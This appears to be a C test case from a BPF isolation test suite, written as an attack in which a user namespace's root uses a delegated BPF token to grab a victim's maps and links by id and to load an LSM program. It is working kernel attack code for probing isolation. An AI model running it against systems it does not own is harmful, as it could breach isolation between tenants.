// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * As root of a user namespace to which all of BPF is delegated: makes a token from a bpffs of its own, loads a security module
 * with it, and asks for the victim's objects by their ids.
 * Success: it has one of them, or the security module. Tokens came with Linux 6.9.
 */
#include "bpf.h"
#include "namespaces.h"
#include <signal.h>
#include <stddef.h>
#include <sys/wait.h>

#define TOKEN_CREATE 36
#define WITH_TOKEN (1 << 16)

/* Behind what the attributes of Linux 6.1 have: the length of the log, then the token. */
#define TOKEN_AT (offsetof(union bpf_attr, core_relo_rec_size) + 8)

static const char *const delegated[] = { "delegate_cmds", "delegate_maps", "delegate_progs", "delegate_attachs" };

/* The file system has to be the namespace's, and what is delegated with it the outer root's to say. */
static int mount_delegating(int context)
{
	for (unsigned i = 0; i < sizeof(delegated) / sizeof(delegated[0]); i++)
		must(delegated[i], syscall(SYS_fsconfig, context, FSCONFIG_SET_STRING, delegated[i], "any", 0));
	must("fsconfig", syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0));
	return must("fsmount", syscall(SYS_fsmount, context, 0, 0));
}

static int load_with(int token)
{
	const struct bpf_insn code[] = { SET(BPF_REG_0, 0), RETURN };
	union {
		union bpf_attr of;
		char bytes[TOKEN_AT + 64];
	} attr = { .of = {
			   .prog_type = BPF_PROG_TYPE_LSM,
			   .expected_attach_type = BPF_LSM_MAC,
			   .attach_btf_id = kernel_function("bpf_lsm_file_open"),
			   .prog_flags = WITH_TOKEN,
			   .insns = (uint64_t)code,
			   .insn_cnt = 2,
			   .license = (uint64_t)"GPL",
		   } };

	memcpy(attr.bytes + TOKEN_AT, &token, sizeof(token));
	return bpf(BPF_PROG_LOAD, &attr.of, TOKEN_AT + sizeof(token));
}

static void use(int folder)
{
	uint32_t attr[2] = { 0, folder };
	int token = must("BPF_TOKEN_CREATE", bpf(TOKEN_CREATE, (void *)attr, sizeof(attr))), program;

	if (act("BPF_MAP_GET_FD_BY_ID", by_id(BPF_MAP_GET_FD_BY_ID, id_of("victim/maps/allowed"), 0)) >= 0)
		got("a map of the victim's");
	if (act("BPF_LINK_GET_FD_BY_ID", by_id(BPF_LINK_GET_FD_BY_ID, id_of("victim/links/hold"), 0)) >= 0)
		got("a link of the victim's");
	program = must("BPF_PROG_LOAD", load_with(token));
	must("BPF_RAW_TRACEPOINT_OPEN", attach_raw(program, NULL));
	got("a security module");
}

static void run(void)
{
	uint32_t none[2] = { 0, -1 };
	int to[2], back[2], context, mounted;
	pid_t child;

	if (bpf(TOKEN_CREATE, (void *)none, sizeof(none)) < 0 && errno == EINVAL)
		impossible("this kernel has no tokens");

	must("pipe", pipe(to));
	must("pipe", pipe(back));
	child = must("clone", syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL)); /* a process that shares its descriptors */
	if (child == 0) {
		become_namespaced_root();
		context = must("fsopen", syscall(SYS_fsopen, "bpf", 0));
		(void)!write(back[1], &context, sizeof(context));
		(void)!read(to[0], &mounted, sizeof(mounted));
		use(must("open", openat(mounted, ".", O_RDONLY | O_DIRECTORY)));
	}
	(void)!read(back[0], &context, sizeof(context));
	mounted = mount_delegating(context);
	(void)!write(to[1], &mounted, sizeof(mounted));
	waitpid(child, NULL, 0);
}

ATTACK("uses a token for BPF in a user namespace", .run = run);
